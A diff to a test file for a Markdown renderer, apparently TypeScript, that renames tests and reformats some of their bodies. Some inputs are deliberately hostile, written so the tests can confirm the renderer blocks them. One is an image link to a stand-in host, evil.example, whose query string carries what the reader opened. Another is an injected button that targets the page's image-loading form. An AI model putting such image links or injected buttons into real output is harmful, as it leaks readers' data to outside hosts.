@@ -8,7 +8,7 @@ const attributesOf = (html: string, name: string) =>
     .filter((element) => element.name === name)
     .map((element) => element.properties);
 
-test("headings go one level down, to h6 at most, and are listed with their ids", () => {
+test("rendering: headings go one level down, to h6 at most, and are listed with their ids", () => {
   const { html, headings } = renderFull("# A *b*\n\n## A b\n\n###### Deep\n\n#\n\n<h1>Raw</h1>\n");
   expect(headings).toEqual([
     { depth: 2, id: "user-content-a-b", text: "A b" },
@@ -19,18 +19,18 @@ test("headings go one level down, to h6 at most, and are listed with their ids",
   expect(elementsOf(html).map(({ name }) => name)).toEqual(["h2", "em", "h3", "h6", "h2", "h2"]);
 });
 
-test("a link to a heading leads to its id", () => {
+test("rendering: a link to a heading leads to its id", () => {
   const [link] = attributesOf(renderFull("[go](#a-b)\n\n# A b").html, "a");
   expect(link).toEqual({ href: "#user-content-a-b" });
 });
 
-test("both renderings name headings alike", () => {
+test("rendering: both renderings name headings alike", () => {
   const markdown =
     "# One *two* `three` [four](/x)\n\nOne\n===\n\n## One\n\n# &amp; <é>\n\n###### 日本語\n";
   expect(renderSimple(markdown).headings).toEqual(renderFull(markdown).headings);
 });
 
-test("footnotes lead to their note and back", () => {
+test("rendering: footnotes lead to their note and back", () => {
   const { html, headings } = renderFull("Text[^n].\n\n[^n]: The note.\n\n# Last");
   const [call, back] = attributesOf(html, "a");
   const [note] = attributesOf(html, "li");
@@ -41,7 +41,7 @@ test("footnotes lead to their note and back", () => {
   expect(headings.map(({ text }) => text)).toEqual(["Last"]);
 });
 
-test("task lists are named check boxes that cannot be used", () => {
+test("rendering: task lists are named check boxes that cannot be used", () => {
   const boxes = attributesOf(renderFull("- [ ] a\n- [x] b\n").html, "input");
   expect(boxes).toEqual([
     { type: "checkbox", disabled: true, ariaLabel: "To do" },
@@ -52,7 +52,7 @@ test("task lists are named check boxes that cannot be used", () => {
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("tables keep their alignment in the %s rendering", (_, render) => {
+])("rendering: tables keep their alignment in the %s rendering", (_, render) => {
   const { html } = render("| a | b |\n| - | -: |\n| 1 | 2 \\| 3 |\n");
   expect(html.replaceAll("\n", "")).toBe(
     '<table tabindex="0"><thead><tr><th dir="auto">a</th><th align="right" dir="auto">b</th></tr></thead>' +
@@ -63,21 +63,24 @@ test.each([
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("each block of the %s rendering reads in the direction of its first words", (_, render) => {
-  const { html } = render("# مرحبا\n\nשלום\n\n- أهلا\n  - nested\n\n> קצת\n\n```\ncode\n```\n");
-  expect(html.match(/dir="auto"/g)).toHaveLength(4);
-  expect(html).toMatch(/<ul dir="auto">\s*<li>/);
-  expect(html).not.toMatch(/<pre[^>]* dir/);
-});
+])(
+  "rendering: each block of the %s rendering reads in the direction of its first words",
+  (_, render) => {
+    const { html } = render("# مرحبا\n\nשלום\n\n- أهلا\n  - nested\n\n> קצת\n\n```\ncode\n```\n");
+    expect(html.match(/dir="auto"/g)).toHaveLength(4);
+    expect(html).toMatch(/<ul dir="auto">\s*<li>/);
+    expect(html).not.toMatch(/<pre[^>]* dir/);
+  },
+);
 
-test("code is coloured by its language", () => {
+test("rendering: code is coloured by its language", () => {
   expect(renderFull('```js\nconst a = "<b>";\n```\n').html).toMatchInlineSnapshot(`
     "<pre tabindex="0"><code class="hljs language-js"><span class="hljs-keyword">const</span> a = <span class="hljs-string">"&#x3C;b>"</span>;
     </code></pre>"
   `);
 });
 
-test("code in an unknown language or in none is left alone", () => {
+test("rendering: code in an unknown language or in none is left alone", () => {
   const { html } = renderFull("```nonsense\n<b>\n```\n\n    plain\n");
   expect(elementsOf(html).map(({ name }) => name)).toEqual(["pre", "code", "pre", "code"]);
 });
@@ -85,7 +88,7 @@ test("code in an unknown language or in none is left alone", () => {
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("links to other sites are marked in the %s rendering", (_, render) => {
+])("rendering: links to other sites are marked in the %s rendering", (_, render) => {
   const { html } = render(
     "[a](https://example.com) [b](//example.com) [c](/in) [d](mailto:a@example.com) [e](in#x)",
   );
@@ -102,7 +105,7 @@ test.each([
   ["full", renderFull],
   ["simple", renderSimple],
 ])(
-  "only images over https from hosts that were asked for are loaded in the %s rendering",
+  "rendering: only images over https from hosts that were asked for are loaded in the %s rendering",
   (_, render) => {
     const { html } = render(
       "![kept](https://example.com/a.png) ![one](http://example.com/a.png) ![two](//example.com/a.png) ![three](a.png) ![four](data:image/png;base64,AAAA)",
@@ -123,34 +126,37 @@ test.each([
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("an image waits behind a button that names its host in the %s rendering", (_, render) => {
-  const markdown =
-    '![a "b"](https://user@Evil.Example:8443/?q=what+it+read) ![c](https://example.com/c.png)';
-  const { html } = render(markdown, ["example.com", "evil.example"]);
-  expect(html).not.toContain("q=what");
-  expect(attributesOf(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
-  expect(attributesOf(html, "button")).toEqual([
-    {
-      type: "submit",
-      form: "remote-images",
-      name: "host",
-      value: "evil.example:8443",
-      className: ["remote-image"],
-      title: "They are loaded from evil.example:8443, which learns that you opened this page.",
-    },
-  ]);
-  expect(html).toContain("Show images from evil.example:8443");
-});
+])(
+  "rendering: an image waits behind a button that names its host in the %s rendering",
+  (_, render) => {
+    const markdown =
+      '![a "b"](https://user@Evil.Example:8443/?q=what+it+read) ![c](https://example.com/c.png)';
+    const { html } = render(markdown, ["example.com", "evil.example"]);
+    expect(html).not.toContain("q=what");
+    expect(attributesOf(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
+    expect(attributesOf(html, "button")).toEqual([
+      {
+        type: "submit",
+        form: "remote-images",
+        name: "host",
+        value: "evil.example:8443",
+        className: ["remote-image"],
+        title: "They are loaded from evil.example:8443, which learns that you opened this page.",
+      },
+    ]);
+    expect(html).toContain("Show images from evil.example:8443");
+  },
+);
 
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("a text cannot bring a button of its own in the %s rendering", (_, render) => {
+])("rendering: a text cannot bring a button of its own in the %s rendering", (_, render) => {
   const own = '<button form="remote-images" name="host" value="evil.example">Next page</button>';
   expect(attributesOf(render(own).html, "button")).toEqual([]);
 });
 
-test("harmless HTML stays, and its ids cannot be those of the page", () => {
+test("rendering: harmless HTML stays, and its ids cannot be those of the page", () => {
   const { html } = renderFull('<details id="x"><summary>S</summary>H<sub>2</sub>O</details>');
   expect(html).toBe(
     '<details id="user-content-x" dir="auto"><summary>S</summary>H<sub>2</sub>O</details>',
@@ -160,7 +166,7 @@ test("harmless HTML stays, and its ids cannot be those of the page", () => {
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("the keyboard reaches code and tables in the %s rendering", (_, render) => {
+])("rendering: the keyboard reaches code and tables in the %s rendering", (_, render) => {
   const { html } = render("```js\na\n```\n\n    b\n\n| c |\n| - |\n");
   const reached = elementsOf(html).filter(({ properties }) => properties.tabIndex === 0);
   expect(reached.map(({ name }) => name)).toEqual(["pre", "pre", "table"]);
